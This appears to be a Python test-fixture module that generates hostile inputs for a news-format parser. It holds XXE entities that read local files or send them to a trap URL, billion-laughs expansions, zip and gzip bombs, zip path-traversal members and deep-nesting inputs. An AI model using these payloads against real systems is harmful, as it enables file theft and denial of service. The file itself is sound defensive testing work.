"""Hostile files, made by recipes: what they are made to open, to fill or to hold up is in their names.

The small ones of `fixtures/attacks/` are kept as files; these are too large to keep, or name a place that only exists
while they are tried. Each recipe is given a trap: a file and an address that nobody may touch.
"""

import gzip
import io
import struct
import warnings
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Callable
from dataclasses import dataclass

MANY = 100_000
Recipe = Callable[["Trap"], bytes]


@dataclass(frozen=True)
class Trap:
    """A file and a port of this machine that nothing may open.

    Attributes:
        file: its path; secret: what stands in it.
        port: of 127.0.0.1.
    """

    file: str
    port: int

    @property
    def address(self) -> str:
        """The URL of the port."""
        return f"http://127.0.0.1:{self.port}"


BODY = "<body><body.content><p>The ferry sailed at dawn.</p></body.content></body>"
HEAD = '<?xml version="1.0"?>\n'


def nitf(before: str = "", inside: str = BODY, root: str = "") -> bytes:
    """Return NITF with something before its root, in its root's tag, or in it."""
    return f"{HEAD}{before}<nitf{root}>{inside}</nitf>".encode()


def paragraphs(text: str) -> bytes:
    """Return NITF with this body."""
    return nitf(inside=f"<body><body.content>{text}</body.content></body>")


def entity(declaration: str, use: str = "&x;") -> bytes:
    """Return NITF that declares an entity and uses it."""
    return nitf(f"<!DOCTYPE nitf [{declaration}]>", BODY.replace("dawn", use))


def rss(items: str, more: str = "") -> bytes:
    """Return a feed."""
    return f'{HEAD}<rss version="2.0"{more}><channel><title>t</title>{items}</channel></rss>'.encode()


def page(body: str, head: str = "") -> bytes:
    """Return a page."""
    return f"<!DOCTYPE html><html><head><title>t</title>{head}</head><body>{body}</body></html>".encode()


def mail(fields: str, body: str) -> bytes:
    """Return a mail."""
    start = "From: a@b.example\r\nSubject: The ferry\r\nDate: Mon, 3 Mar 2025 10:00:00 +0100\r\n"
    return f"{start}{fields}\r\n\r\n{body}".encode()


def archive(*members: tuple[str, bytes], mode: int = 0) -> bytes:
    """Return a zip."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        warnings.simplefilter("ignore")
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.compress_type, info.external_attr = zipfile.ZIP_DEFLATED, mode << 16
            made.writestr(info, data)
    return out.getvalue()


def overlapping() -> bytes:
    """Return a zip whose directory names one packed member a thousand times."""
    one = archive(("a.txt", b"0" * 900_000))
    end = one.rindex(b"PK\x05\x06")
    start = one.index(b"PK\x01\x02")
    entries = one[start:end] * 1_000
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1_000, 1_000, len(entries), start, 0)
    return one[:start] + entries + tail


def lying(said: int) -> bytes:
    """Return a zip whose directory says that 30 MB are so many bytes."""
    raw = bytearray(archive(("a.txt", b"0" * 30_000_000)))
    struct.pack_into("<L", raw, raw.rindex(b"PK\x01\x02") + 24, said)
    return bytes(raw)


def quine() -> bytes:
    """Return a gzip that unpacks to gzip after gzip."""
    data = b"The ferry sailed."
    for _ in range(50):
        data = gzip.compress(data)
    return data


def endless_gzip() -> bytes:
    """Return a gzip that is cut in a stream of 1 GB of zeros."""
    engine = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = engine.compress(bytes(10_000_000))
    return block + b"".join(engine.compress(bytes(10_000_000)) for _ in range(99))


def parts(number: int) -> bytes:
    """Return a mail of so many parts."""
    body = "--b\r\nContent-Type: text/plain\r\n\r\nThe ferry.\r\n" * number
    return mail('Content-Type: multipart/mixed; boundary="b"', body + "--b--\r\n")


def nested_mail(depth: int) -> bytes:
    """Return a mail in a mail in a mail."""
    box = "Content-Type: message/rfc822\r\n\r\n" * depth
    return mail(box.strip(), "The ferry sailed.")


def nested_parts(depth: int) -> bytes:
    """Return parts in parts, each with a boundary that begins like the one around it."""
    text = "Content-Type: text/plain\r\n\r\nThe ferry sailed.\r\n"
    for n in range(depth):
        edge = "b" * (n % 60 + 1)
        text = f'Content-Type: multipart/mixed; boundary="{edge}"\r\n\r\n--{edge}\r\n{text}--{edge}--\r\n'
    return mail(text.partition("\r\n\r\n")[0], text.partition("\r\n\r\n")[2])


def dpa(head: str, text: str) -> bytes:
    """Return a text wire."""
    return f"\x01eca0125 3 i 71  dpa 1889\r\n{head}\r\n\x02{text}\r\n\x03142101 GMT Mar 25\r\n\x04".encode()


def ninjs(body: str) -> bytes:
    """Return a story in JSON, with something more in it."""
    return f'{{"uri":"urn:x:1","headline":"The ferry","body_text":"It sailed at dawn."{body}}}'.encode()


LAUGHS = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
FILTER = "php://filter/convert.base64-encode/resource"

NUMBERED = " ".join(f"a{n}" for n in range(MANY))

RECIPES: dict[str, Recipe] = {
    # XML: to be made to open something
    "entity of a file": lambda trap: entity(f'<!ENTITY x SYSTEM "file://{trap.file}">'),
    "entity of an address": lambda trap: entity(f'<!ENTITY x SYSTEM "{trap.address}/x">'),
    "entity of a filter": lambda trap: entity(f'<!ENTITY x SYSTEM "{FILTER}={trap.file}">'),
    "entity, public": lambda trap: entity(f'<!ENTITY x PUBLIC "-//X//EN" "{trap.address}/x">'),
    "parameter entity": lambda trap: entity(f'<!ENTITY % x SYSTEM "{trap.address}/x.dtd"> %x;', "dawn"),
    "parameter entity that sends a file": lambda trap: entity(
        f'<!ENTITY % f SYSTEM "file://{trap.file}"><!ENTITY % x "<!ENTITY y SYSTEM \'{trap.address}/%f;\'>">%x;', "&y;"
    ),
    "external DTD": lambda trap: nitf(f'<!DOCTYPE nitf SYSTEM "{trap.address}/nitf.dtd">'),
    "external DTD of a file": lambda trap: nitf(f'<!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF" "{trap.file}">'),
    "DTD of an agency": lambda trap: nitf(
        f'<!DOCTYPE nitf [<!ENTITY % nitf SYSTEM "{trap.address}/nitf.dtd"> %nitf; ]>'
    ),
    "XInclude": lambda trap: nitf(
        inside=BODY.replace("dawn", f'<xi:include href="{trap.file}" parse="text"/>'),
        root=' xmlns:xi="http://www.w3.org/2001/XInclude"',
    ),
    "stylesheet": lambda trap: nitf(f'<?xml-stylesheet type="text/xsl" href="{trap.address}/x.xsl"?>'),
    "XSLT": lambda trap: (
        f'{HEAD}<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f'<xsl:template match="/"><xsl:copy-of select="document(\'{trap.file}\')"/></xsl:template></xsl:stylesheet>'
    ).encode(),
    "schema location": lambda trap: nitf(
        root=f' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:noNamespaceSchemaLocation="{trap.address}/x.xsd"'
    ),
    "catalog": lambda trap: nitf(f'<?oasis-xml-catalog catalog="{trap.file}"?>'),
    "XML base": lambda trap: nitf(root=f' xml:base="{trap.address}/"'),
    "SVG with an image": lambda trap: page(
        f'<p>The ferry sailed at dawn.</p><svg><image href="{trap.address}/x.png"/></svg><img src="file://{trap.file}">'
    ),
    "frames and objects": lambda trap: page(
        f'<p>The ferry sailed at dawn.</p><iframe src="{trap.address}"></iframe><object data="{trap.file}"></object>',
        f'<base href="{trap.address}/"><meta http-equiv="refresh" content="0;url={trap.address}">',
    ),
    "enclosures": lambda trap: rss(
        f"<item><title>The ferry</title><description>It sailed at dawn.</description><guid>{trap.address}/1</guid>"
        f'<enclosure url="{trap.address}/x.mp3" length="1" type="audio/mpeg"/><link>file://{trap.file}</link></item>'
    ),
    "external mail body": lambda trap: mail(
        f'Content-Type: message/external-body; access-type=local-file; name="{trap.file}"', "Content-Type: text/plain"
    ),
    # XML: to fill memory or time
    "billion laughs": lambda trap: entity(LAUGHS, "&j;"),
    "quadratic blow-up": lambda trap: entity(f'<!ENTITY x "{"a" * MANY}">', "&x;" * MANY),
    "entity of itself": lambda trap: entity('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    "attribute entities": lambda trap: nitf("<!DOCTYPE nitf [<!ATTLIST p class CDATA 'x'>]>"),
    "deep": lambda trap: paragraphs("<b>" * MANY + "x" + "</b>" * MANY),
    "deep and never closed": lambda trap: (HEAD + "<nitf>" + "<b>" * 1_000_000).encode(),
    "wide": lambda trap: paragraphs("<p/>" * 1_000_000),
    "a million paragraphs": lambda trap: paragraphs("<p>The ferry.</p>" * 1_000_000),
    "a huge attribute": lambda trap: paragraphs(f'<p class="{"x" * 15_000_000}">The ferry.</p>'),
    "many attributes": lambda trap: paragraphs("<p " + " ".join(f"a{n}=''" for n in range(MANY)) + ">The ferry.</p>"),
    "a huge text": lambda trap: paragraphs(f"<p>{'The ferry. ' * 1_500_000}</p>"),
    "a huge name": lambda trap: paragraphs(f"<{'x' * 5_000_000}/>"),
    "many namespaces": lambda trap: nitf(root="".join(f' xmlns:n{n}="urn:n:{n}"' for n in range(MANY))),
    "prefixes never declared": lambda trap: paragraphs("".join(f"<n{n}:p>x</n{n}:p>" for n in range(20_000))),
    "comments": lambda trap: paragraphs("<!-- x -->" * 1_000_000 + "<p>The ferry.</p>"),
    "comments never closed": lambda trap: paragraphs("<!--" * 1_000_000),
    "CDATA": lambda trap: paragraphs("<![CDATA[x]]>" * 1_000_000),
    "CDATA never closed": lambda trap: paragraphs("<![CDATA[" * 1_000_000),
    "instructions never closed": lambda trap: (HEAD + "<?x " * 1_000_000).encode(),
    "declarations never closed": lambda trap: ("<?xml " * 1_000_000).encode(),
    "doctypes": lambda trap: ("<!DOCTYPE nitf " * 500_000).encode(),
    "references": lambda trap: paragraphs(f"<p>{'&#x41;' * 2_000_000}</p>"),
    "names of characters": lambda trap: paragraphs(f"<p>{'&nbsp;' * 2_000_000}</p>"),
    # Charsets
    "UTF-7": lambda trap: b'<?xml version="1.0" encoding="utf-7"?><nitf>+ADw-script+AD4-</nitf>',
    "UTF-32": lambda trap: nitf().decode().encode("utf-32"),
    "UTF-32 said": lambda trap: nitf().replace(b"?>", b' encoding="utf-32"?>'),
    "EBCDIC": lambda trap: nitf().decode().replace("?>", ' encoding="cp037"?>').encode("cp037"),
    "EBCDIC said": lambda trap: nitf().replace(b"?>", b' encoding="cp037"?>'),
    "UTF-16 said": lambda trap: nitf().replace(b"?>", b' encoding="utf-16"?>'),
    "two byte order marks": lambda trap: b"\xef\xbb\xbf\xff\xfe" + nitf(),
    "an odd charset": lambda trap: (
        nitf().replace(b"?>", b' encoding="../../../etc/passwd"?>').replace(b"dawn", b"\xff")
    ),
    "a charset that is code": lambda trap: nitf().replace(b"?>", b' encoding="zlib_codec"?>').replace(b"dawn", b"\xff"),
    # Archives
    "gzip of zeros": lambda trap: gzip.compress(bytes(30_000_000)),
    "gzip that never ends": lambda trap: endless_gzip(),
    "gzip in gzip": lambda trap: quine(),
    "gzip of many members": lambda trap: gzip.compress(b"x") * 20_000,
    "zip of zeros": lambda trap: archive(("a.txt", bytes(30_000_000))),
    "zip, overlapping": lambda trap: overlapping(),
    "zip that lies small": lambda trap: lying(100),
    "zip that lies large": lambda trap: lying(2**32 - 2),
    "zip in zip": lambda trap: archive(("a.zip", archive(("b.zip", archive(("c.xml", nitf())))))),
    "zip with paths": lambda trap: archive((f"../../../..{trap.file}", nitf()), (trap.file, nitf()), ("C:\\x", nitf())),
    "zip with a link": lambda trap: archive(("a.xml", trap.file.encode()), mode=0o120777),
    "zip with a name twice": lambda trap: archive(("a.xml", nitf()), ("a.xml", nitf())),
    "zip of many members": lambda trap: archive(*((f"{n}", b"") for n in range(20_000))),
    "zip with a huge comment": lambda trap: archive(("a.xml", nitf()))[:-2] + b"\xff\xff" + b"PK\x05\x06" * 16_000,
    # JSON
    "JSON, deep": lambda trap: b'{"uri":' * MANY,
    "JSON lists, deep": lambda trap: b'[{"uri":' + b"[" * 1_000_000,
    "JSON, digits": lambda trap: ninjs(',"version":' + "9" * 1_000_000),
    "JSON, a huge exponent": lambda trap: ninjs(',"version":1e999999999'),
    "JSON, infinity": lambda trap: ninjs(',"version":Infinity'),
    "JSON, a key twice": lambda trap: ninjs(',"uri":"urn:x:2"'),
    "JSON, half a character": lambda trap: ninjs(',"slugline":"\\ud800"'),
    "JSON, many keys": lambda trap: ninjs("".join(f',"k{n}":0' for n in range(1_000_000))),
    "JSON, many items": lambda trap: b"[" + ninjs("") + b',{"uri":"x"}' * 500_000 + b"]",
    "JSON, lines": lambda trap: (ninjs("") + b"\n") * 100_000,
    "JSON, escapes": lambda trap: ninjs(',"slugline":"' + r"\u0041" * 2_000_000 + '"'),
    # Mail
    "mail in mail": lambda trap: nested_mail(2_000),
    "parts in parts": lambda trap: nested_parts(500),
    "ten thousand parts": lambda trap: parts(10_000),
    "a header without end": lambda trap: mail("X: " + "y" * 15_000_000, "The ferry."),
    "folded header": lambda trap: mail("X: y\r\n" + " y\r\n" * 2_000_000 + "Z: z", "The ferry."),
    "many fields": lambda trap: mail("X: y\r\n" * 1_000_000 + "Z: z", "The ferry."),
    "encoded words": lambda trap: mail("X-Y: z\r\nSubject: " + "=?utf-8?q?=41?= " * 300_000, "The ferry."),
    "brackets of addresses": lambda trap: mail("Sender: " + "(" * 1_000_000, "The ferry."),
    "quoted-printable": lambda trap: mail("Content-Transfer-Encoding: quoted-printable", "=41=\r\n" * 2_000_000),
    "base64 of zeros": lambda trap: mail("Content-Transfer-Encoding: base64", b64encode(bytes(10_000_000)).decode()),
    "uuencode": lambda trap: mail("Content-Transfer-Encoding: x-uuencode", "begin 644 x\r\n" + "M" * 10_000_000),
    "a boundary like text": lambda trap: mail('Content-Type: multipart/mixed; boundary=""', "--\r\n" * 1_000_000),
    # HTML
    "HTML, deep": lambda trap: page("<div>" * MANY + "The ferry."),
    "HTML, inline and deep": lambda trap: page("<p><b><i>" * 50_000 + "The ferry."),
    "HTML, tables in tables": lambda trap: page("<table><tr><td>" * 5_000 + "The ferry."),
    "HTML, many attributes": lambda trap: page(f"<p {NUMBERED}>The ferry.</p>"),
    "HTML, open brackets": lambda trap: page("<" * 5_000_000),
    "HTML, open quotes": lambda trap: page('<a href="' * 500_000),
    "HTML, comments": lambda trap: page("<!--" * 1_000_000),
    "HTML, bait in meta": lambda trap: page("<p>The ferry.</p>", "<meta charset=" + " " * 5_000_000),
    "HTML, scripts": lambda trap: page('<script type="application/ld+json">' * 100_000),
    "HTML, data in JSON": lambda trap: page(
        "<p>The ferry.</p>", f'<script type="application/ld+json">{"[" * MANY}</script>'
    ),
    # Feeds and text
    "a feed of a million items": lambda trap: rss("<item><title>x</title></item>" * 500_000),
    "escaped again and again": lambda trap: rss(
        f"<item><title>x</title><description>{'&amp;' * 500_000}lt;p&gt;</description></item>"
    ),
    "a line without end": lambda trap: b"The ferry sailed. " * 1_000_000,
    "a million lines": lambda trap: b"The ferry sailed at dawn with the goat.\n" * 450_000,
    "a million blank lines": lambda trap: b"The ferry.\n" + b" \n" * 9_000_000,
    "zeros": lambda trap: bytes(15_000_000),
    "combining marks": lambda trap: ("The ferry" + "\u0301" * 2_000_000).encode(),
    "bidi": lambda trap: ("The ferry " + "\u202e\u2066" * 1_000_000).encode(),
    "joiners": lambda trap: ("The ferry " + "\u200d" * 3_000_000).encode(),
    "variants": lambda trap: ("A" + "\ufe0f" * 3_000_000).encode(),
    "text wire, header lines": lambda trap: b"\x01" + b"eca0125 3 i 71  dpa 1889\r\n" * 300_000 + b"\x02x\x03",
    "text wire, keywords": lambda trap: dpa("Harbour/" * 1_000_000, "The ferry ="),
    "text wire, equals signs": lambda trap: dpa("Harbour/", "The ferry =\r\n" * 500_000),
    "text wire, spaces": lambda trap: dpa("Harbour/", "The ferry" + " " * 10_000_000 + "="),
    "text wire, brackets": lambda trap: dpa("(" * 5_000_000, "The ferry ="),
    "text wire, messages": lambda trap: dpa("Harbour/", "The ferry =\r\n\r\nIt sailed.") * 30_000,
    "text wire, tables": lambda trap: dpa("Harbour/", "x" + "   x" * 3_000_000),
    "text wire, semicolons": lambda trap: dpa("Harbour/", ";" * 5_000_000),
    "ANPA, rails": lambda trap: (
        b"\x16\x16\x01a0001\x1f-----\r\nr a\x13\x11 BC-X 03-14 0100\r\n\x02" + b"^x<\r\n" * 500_000 + b"\x03\x04"
    ),
    "ANPA, spaces": lambda trap: (
        b"\x16\x16\x01a0001\x1f-----\r\nr a\x13\x11 BC-X" + b" " * 10_000_000 + b"\x02x\x03\x04"
    ),
}
